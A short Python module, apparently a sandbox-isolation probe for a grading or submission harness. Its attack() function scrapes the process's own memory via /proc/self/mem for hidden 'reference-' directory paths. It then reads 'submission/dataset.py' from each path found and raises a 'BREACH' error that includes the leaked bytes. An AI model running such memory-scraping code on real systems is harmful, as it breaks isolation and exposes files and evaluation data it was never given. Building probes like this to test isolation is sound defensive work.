import re
_LOOK = re.compile(rb"hush-[0-9a-f]{16}")
def _tell(found):
    if found:
        raise RuntimeError("BREACH: " + " ".join(sorted({item.decode("utf-8", "replace") for item in found}))[:1500])
import os
_TREES = re.compile(rb"/[a-z0-9_./-]{1,200}/reference-[0-9a-f]{32}")
def attack():
    found = set()
    try:
        maps = open("/proc/self/maps").read().splitlines()
        memory = open("/proc/self/mem", "rb", 0)
    except OSError:
        return
    for line in maps:
        span, rights = line.split()[:2]
        low, high = (int(number, 16) for number in span.split("-"))
        if rights.startswith("rw") and high - low < 300 << 20:
            try:
                memory.seek(low)
                found |= set(_TREES.findall(memory.read(high - low)))
            except (OSError, ValueError, OverflowError):
                pass
    read = []
    for path in found:
        try:
            read.append(path + b": " + open(os.path.join(path, b"submission", b"dataset.py"), "rb").read(100))
        except OSError:
            pass
    _tell(read)
